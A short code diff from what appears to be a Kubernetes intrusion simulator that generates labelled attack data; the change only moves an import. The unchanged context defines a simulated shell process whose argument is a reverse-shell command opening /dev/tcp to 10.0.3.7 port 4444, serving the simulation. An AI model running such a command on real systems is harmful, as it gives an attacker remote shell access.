@@ -10,7 +10,7 @@ from kubestray.simulate.edges import Edge
 from kubestray.simulate.episode import transfer
 from kubestray.simulate.labels import Attack
 from kubestray.simulate.noise import key
-from kubestray.simulate.scenarios.base import Footprint, Intruder, conversation
+from kubestray.simulate.stage import Footprint, Intruder, conversation
 
 _SHELL = Program("dash", "/bin/dash", "-c exec 5<>/dev/tcp/10.0.3.7/4444", "1000", 0.001, 2.1, (20.0, 0.0), 1)
 _NEXT = "payments"
